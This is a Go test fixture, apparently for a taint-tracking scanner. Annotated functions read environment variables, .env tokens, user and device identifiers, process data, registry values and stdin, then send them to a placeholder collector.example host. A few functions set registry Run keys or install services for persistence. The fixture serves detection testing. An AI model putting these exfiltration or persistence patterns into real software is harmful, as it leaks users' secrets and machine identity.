// The environment, users, the machine and its processes, the command line, the Windows registry.
package models

import (
	"bufio"
	"bytes"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/user"
	"runtime"
	"runtime/debug"
	"runtime/pprof"
	"strconv"

	"github.com/denisbrodbeck/machineid"
	"github.com/jaypipes/ghw"
	"github.com/joho/godotenv"
	"github.com/kardianos/service"
	"github.com/shirou/gopsutil/v4/host"
	"github.com/shirou/gopsutil/v4/process"
	"github.com/spf13/cobra"
	"github.com/spf13/pflag"
	"github.com/urfave/cli/v2"
	"golang.org/x/sys/unix"
	"golang.org/x/sys/windows/registry"
)

const U = "https://collector.example/u?"

func variable() {
	http.Get(U + os.Getenv("HOME")) //~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1, capability(ENVIRONMENT)
}

func variableCompared() {
	http.Get(U + strconv.FormatBool(os.Getenv("CI") == "true")) //~ ok
}

func variableFound() {
	v, ok := os.LookupEnv("HOME") //~ source(ENVIRONMENT) f3, capability(ENVIRONMENT)
	if ok {
		http.Get(U + v) //~ sink(egress.http) f3, finding(traced) f3
	}
}

func variableFoundOnly() {
	_, found := os.LookupEnv("HOME") //~ ok
	http.Get(U + strconv.FormatBool(found)) //~ ok
}

func variables() {
	for _, pair := range os.Environ() { //~ source(ENVIRONMENT) f5, capability(ENVIRONMENT)
		http.Get(U + pair) //~ sink(egress.http) f5, finding(traced) f5
	}
}

func variablesCounted() {
	http.Get(U + strconv.Itoa(len(os.Environ()))) //~ ok
}

func expanded() {
	http.Get(os.ExpandEnv("https://collector.example/$HOME")) //~ source(ENVIRONMENT) f7, sink(egress.http) f7, finding(traced) f7, capability(ENVIRONMENT)
}

func expandedUnused() {
	os.ExpandEnv("$HOME") //~ ok
}

func variableSet() {
	os.Setenv("A", "b") //~ capability(ENVIRONMENT)
}

func variableSetNamed() {
	err := os.Setenv("A", os.Getenv("B")) //~ ok
	http.Get(U + err.Error()) //~ ok
}

func dotenv() {
	values, _ := godotenv.Read(".env") //~ source(ENVIRONMENT) f11, capability(FILES)
	http.Get(U + values["TOKEN"]) //~ sink(egress.http) f11, finding(traced) f11
}

func dotenvUnused() {
	godotenv.Read(".env") //~ ok
}

func home() {
	dir, _ := os.UserHomeDir() //~ source(USER) f13
	http.Get(U + dir) //~ sink(egress.http) f13, finding(traced) f13
}

func homeUnused() {
	os.UserHomeDir() //~ ok
}

func userID() {
	http.Get(U + strconv.Itoa(os.Getuid())) //~ source(USER) f15, sink(egress.http) f15, finding(traced) f15
}

func userIDCompared() {
	http.Get(U + strconv.FormatBool(os.Getuid() == 0)) //~ ok
}

func account() {
	u, _ := user.Current() //~ source(USER) f17
	http.Get(U + u.Username) //~ sink(egress.http) f17, finding(traced) f17
}

func accountUnused() {
	user.Current() //~ ok
}

func hostName() {
	name, _ := os.Hostname() //~ source(DEVICE) f19, capability(DEVICE)
	http.Get(U + name) //~ sink(egress.http) f19, finding(traced) f19
}

func hostNameUnused() {
	os.Hostname() //~ ok
}

func directory() {
	dir, _ := os.Getwd() //~ source(USER) f21
	http.Get(U + dir) //~ sink(egress.http) f21, finding(traced) f21
}

func directoryUnused() {
	os.Getwd() //~ ok
}

func platform() {
	http.Get(U + runtime.GOOS) //~ source(DEVICE) f23, sink(egress.http) f23, finding(traced) f23
}

func platformCompared() {
	http.Get(U + strconv.FormatBool(runtime.GOOS == "linux")) //~ ok
}

func processors() {
	http.Get(U + strconv.Itoa(runtime.NumCPU())) //~ source(DEVICE) f25, sink(egress.http) f25, finding(traced) f25
}

func processorsCompared() {
	http.Get(U + strconv.FormatBool(runtime.NumCPU() > 4)) //~ ok
}

func stack(c net.Conn) {
	c.Write(debug.Stack()) //~ source(MEMORY) f27, sink(egress.socket) f27, finding(traced) f27
}

func stackUnused() {
	debug.Stack() //~ ok
}

func heap() {
	var b bytes.Buffer
	pprof.WriteHeapProfile(&b) //~ source(MEMORY) f29, capability(MEMORY)
	http.Post(U, "", &b) //~ sink(egress.http) f29, finding(traced) f29
}

func heapUnused() {
	pprof.WriteHeapProfile(io.Discard) //~ ok
}

func ownAddresses() {
	all, _ := net.InterfaceAddrs() //~ source(DEVICE) f31, capability(DEVICE)
	http.Get(U + fmt.Sprint(all)) //~ sink(egress.http) f31, finding(traced) f31
}

func ownAddressesUnused() {
	net.InterfaceAddrs() //~ ok
}

func oneInterface() {
	one, _ := net.InterfaceByName("eth0") //~ source(DEVICE) f33, capability(DEVICE)
	http.Get(U + one.Name) //~ sink(egress.http) f33, finding(traced) f33
}

func oneInterfaceUnused() {
	net.InterfaceByName("eth0") //~ ok
}

func interfaces() {
	all, _ := net.Interfaces() //~ source(DEVICE) f35, capability(DEVICE)
	for _, one := range all {
		http.Get(U + one.Name) //~ sink(egress.http) f35, finding(traced) f35
	}
}

func interfacesUnused() {
	net.Interfaces() //~ ok
}

func uname(c net.Conn) {
	var u unix.Utsname
	unix.Uname(&u) //~ source(DEVICE) f37, capability(DEVICE)
	c.Write(u.Nodename[:]) //~ sink(egress.socket) f37, finding(traced) f37
}

func unameUnused() {
	var u unix.Utsname
	unix.Uname(&u) //~ ok
}

func mounted(c net.Conn, path string) {
	var s unix.Statfs_t
	unix.Statfs(path, &s) //~ source(DEVICE) f38, capability(DEVICE)
	c.Write(s.Mntfromname[:]) //~ sink(egress.socket) f38, finding(traced) f38
}

func mountedUnused(c net.Conn, path string) {
	var s unix.Statfs_t
	unix.Statfs(path, &s) //~ ok
	c.Write([]byte(path)) //~ ok
}

func machine() {
	info, _ := host.Info() //~ source(DEVICE) f39, capability(DEVICE)
	http.Get(U + info.Hostname) //~ sink(egress.http) f39, finding(traced) f39
}

func machineUnused() {
	host.Info() //~ ok
}

func processes() {
	all, _ := process.Processes() //~ source(PROCESS) f41, capability(PROCESSES)
	for _, p := range all {
		name, _ := p.Name() //~ source(PROCESS) f41
		http.Get(U + name) //~ sink(egress.http) f41, finding(traced) f41
	}
}

func processesUnused() {
	process.Processes() //~ ok
}

func processLine(p *process.Process) {
	line, _ := p.Cmdline() //~ source(PROCESS) f43, capability(PROCESSES)
	http.Get(U + line) //~ sink(egress.http) f43, finding(traced) f43
}

func processLineUnused(p *process.Process) {
	p.Cmdline() //~ ok
}

func processEnvironment(p *process.Process) {
	all, _ := p.Environ() //~ source(ENVIRONMENT) f45, capability(PROCESSES)
	http.Get(U + all[0]) //~ sink(egress.http) f45, finding(traced) f45
}

func processEnvironmentUnused(p *process.Process) {
	p.Environ() //~ ok
}

func hardware() {
	p, _ := ghw.Product() //~ source(DEVICE) f47, capability(DEVICE)
	http.Get(U + p.SerialNumber) //~ sink(egress.http) f47, finding(traced) f47
}

func hardwareUnused() {
	ghw.Product() //~ ok
}

func identity() {
	id, _ := machineid.ID() //~ source(DEVICE) f49, capability(DEVICE)
	http.Get(U + id) //~ sink(egress.http) f49, finding(traced) f49
}

func identityUnused() {
	machineid.ID() //~ ok
}

func arguments() {
	http.Get(U + os.Args[1]) //~ source(INPUT) f51, sink(egress.http) f51, finding(traced) f51
}

func argumentsCounted() {
	http.Get(U + strconv.Itoa(len(os.Args))) //~ ok
}

func standardInput() {
	http.Post(U, "", os.Stdin) //~ source(INPUT) f53, sink(egress.http) f53, finding(traced) f53
}

func standardInputLine() {
	line, _ := bufio.NewReader(os.Stdin).ReadString('\n') //~ source(INPUT) f54
	http.Get(U + line) //~ sink(egress.http) f54, finding(traced) f54
}

func standardInputClosed() {
	os.Stdin.Close() //~ ok
}

func flagValue() {
	token := flag.String("token", "", "a token") //~ source(INPUT) f56
	flag.Parse()
	http.Get(U + *token) //~ sink(egress.http) f56, finding(traced) f56
}

func flagUnused() {
	flag.String("unused", "", "not used") //~ ok
}

func flagVariable() {
	var token string
	flag.StringVar(&token, "token", "", "a token") //~ source(INPUT) f58
	flag.Parse()
	http.Get(U + token) //~ sink(egress.http) f58, finding(traced) f58
}

func flagVariableUnused() {
	var token string
	flag.StringVar(&token, "token", "", "a token") //~ ok
}

func flagOfSet(set *flag.FlagSet) {
	token := set.String("token", "", "a token") //~ source(INPUT) f60
	http.Get(U + *token) //~ sink(egress.http) f60, finding(traced) f60
}

func flagOfSetUnused(set *flag.FlagSet) {
	set.String("token", "", "a token") //~ ok
}

func flagVariableOfSet(set *flag.FlagSet) {
	var token string
	set.StringVar(&token, "token", "", "a token") //~ source(INPUT) f62
	http.Get(U + token) //~ sink(egress.http) f62, finding(traced) f62
}

func flagVariableOfSetUnused(set *flag.FlagSet) {
	var token string
	set.StringVar(&token, "token", "", "a token") //~ ok
}

func flagGot(set *pflag.FlagSet) {
	token, _ := set.GetString("token") //~ source(INPUT) f64
	http.Get(U + token) //~ sink(egress.http) f64, finding(traced) f64
}

func flagGotUnused(set *pflag.FlagSet) {
	set.GetString("token") //~ ok
}

func flagSet() {
	set := flag.NewFlagSet("put", flag.ExitOnError)
	token := set.String("token", "", "a token") //~ source(INPUT) f66
	http.Get(U + *token) //~ sink(egress.http) f66, finding(traced) f66
}

func flagSetUnused() {
	set := flag.NewFlagSet("put", flag.ExitOnError) //~ ok
	set.Parse(nil)
}

func commandFlag(command *cobra.Command) {
	token, _ := command.Flags().GetString("token") //~ source(INPUT) f68
	http.Get(U + token) //~ sink(egress.http) f68, finding(traced) f68
}

func commandFlagUnused(command *cobra.Command) {
	command.Flags().GetString("token") //~ ok
}

func commandRun() {
	command := &cobra.Command{
		Use: "put",
		Run: func(command *cobra.Command, args []string) {
			http.Get(U + args[0]) //~ sink(egress.http) f70, finding(traced) f70
		},
	}
	command.Execute() //~ source(INPUT) f70
}

func commandRunConstant() {
	command := &cobra.Command{Run: func(command *cobra.Command, args []string) {}}
	command.Execute() //~ ok
}

func cliString(c *cli.Context) {
	http.Get(U + c.String("token")) //~ source(INPUT) f72, sink(egress.http) f72, finding(traced) f72
}

func cliStringUnused(c *cli.Context) {
	c.String("token") //~ ok
}

func registryOpened() {
	key, _ := registry.OpenKey(registry.LOCAL_MACHINE, `SOFTWARE`, registry.READ) //~ capability(REGISTRY)
	value, _, _ := key.GetStringValue("ProductId") //~ source(REGISTRY) f74
	http.Get(U + value) //~ sink(egress.http) f74, finding(traced) f74
}

func registryOpenedOnly() {
	key, _ := registry.OpenKey(registry.LOCAL_MACHINE, `SOFTWARE`, registry.READ) //~ ok
	key.Close()
}

func registryValue(key registry.Key) {
	value, _, _ := key.GetStringValue("ProductId") //~ source(REGISTRY) f76, capability(REGISTRY)
	http.Get(U + value) //~ sink(egress.http) f76, finding(traced) f76
}

func registryValueUnused(key registry.Key) {
	key.GetStringValue("ProductId") //~ ok
}

func registryRaw(key registry.Key, c net.Conn) {
	b := make([]byte, 64)
	key.GetValue("ProductId", b) //~ source(REGISTRY) f78, capability(REGISTRY)
	c.Write(b) //~ sink(egress.socket) f78, finding(traced) f78
}

func registryRawUnused(key registry.Key) {
	key.GetValue("ProductId", make([]byte, 64)) //~ ok
}

func registrySet(key registry.Key) {
	key.SetStringValue("Run", "agent.exe") //~ capability(REGISTRY)
}

func registrySetNamed(key registry.Key) {
	err := key.SetStringValue("Run", os.Getenv("T")) //~ ok
	http.Get(U + err.Error()) //~ ok
}

func installed() {
	s, _ := service.New(nil, &service.Config{Name: "agent"}) //~ capability(PERSISTENCE)
	s.Install()
}

func installedNamed() {
	s, err := service.New(nil, &service.Config{Name: os.Getenv("T")}) //~ ok
	http.Get(U + err.Error()) //~ ok
	s.Install()
}

func installedService(s service.Service) {
	s.Install() //~ capability(PERSISTENCE)
}

func installedServiceError(s service.Service) {
	err := s.Install() //~ ok
	http.Get(U + err.Error()) //~ ok
}
